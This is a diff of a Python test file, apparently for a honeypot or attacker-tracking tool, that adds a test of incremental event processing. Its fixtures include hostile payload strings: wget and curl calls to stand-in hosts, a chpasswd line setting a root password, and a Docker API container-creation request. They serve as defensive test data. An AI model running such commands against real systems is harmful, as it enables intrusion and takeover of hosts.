@@ -54,7 +54,7 @@ MAKERS: list[Callable[[str], Payload]] = [
     lambda name: command(f"./run -u 4{name.upper() * 94}"),
     lambda name: command(f"echo 'root:vK3{name}Tq9xZ' | chpasswd"),
     lambda name: command(f"/bin/busybox KI{name.upper()}; wget http://{name}.example.net/b"),
-    lambda name: HttpRequest(method="POST", target="/", body=f'{{"Image": "by{name}/run"}}'),
+    lambda name: HttpRequest(method="POST", target="/containers/create", body=f'{{"Image": "by{name}/run"}}'),
     lambda name: ServiceRequest(service="redis", action="SET", detail={"ARGS": f"x curl http://{name}.example.net/r"}),
 ]
 
@@ -86,7 +86,9 @@ def state(engine: Engine) -> State:
     with reading(engine) as connection:
         c, f, g = identity_attacker.c, identity_core.c, IDENTITIES.group.c
         cores = {row.attacker: row.core for row in connection.execute(select(c.attacker, c.core))}
-        weights = [tuple(row) for row in connection.execute(select(f.kind, f.digest, f.core, f.weight, f.magnitude))]
+        weights = [
+            tuple(row) for row in connection.execute(select(f.kind, f.digest, f.core, f.weight, f.magnitude, f.owner))
+        ]
         sizes = select(g.id, g.members, g.first_seen, g.last_seen).where(g.members > 0)
         identities = [tuple(row) for row in connection.execute(sizes.order_by(g.id))]
         t = IDENTITIES.feature.c
@@ -129,6 +131,34 @@ def crews(draw: random.Random) -> Iterator[Event]:
             shown += [one for one in (hassh(f"tool{crew % 2}"), file(f"{crew % 2}" * 64)) if draw.random() < 0.5]
             for payload in shown:
                 yield event(attacker, payload, at)
+
+
+def people(draw: random.Random) -> Iterator[Event]:
+    """Yield events of pairs of people with a key each; a third address shows what both have besides."""
+    for pair in range(6):
+        besides = [file(f"{pair}f" * 32), command(f"echo 'root:vK3{pair}Tq9xZ' | chpasswd")]
+        for person, other in enumerate(besides):
+            began = draw.randrange(30)
+            for number in range(2):
+                at = DAY * (began + draw.randrange(20))
+                for payload in (key(f"{pair} {person}"), hassh(f"tool {pair} {person}"), other)[: 2 + number]:
+                    yield event(f"198.51.{pair}.{10 * person + number}", payload, at)
+        for payload in besides:
+            yield event(f"203.0.113.{pair}", payload, DAY * 25)
+
+
+@pytest.mark.parametrize("seed", range(3))
+def test_nor_does_whose_the_parts_of_a_core_are(seed: int) -> None:
+    draw = random.Random(seed)
+    log = list(people(draw))
+    with in_memory() as whole, in_memory() as parts:
+        Follower(whole).run(log)
+        draw.shuffle(log)
+        follower = Follower(parts, batch=7)
+        for start in range(0, len(log), 11):
+            follower.run(log[start : start + 11])
+        assert state(parts) == state(whole)
+        assert {row[5] for row in state(whole)[2]} > {""}
 
 
 @pytest.mark.parametrize("seed", at_scale(range(3), always=1))
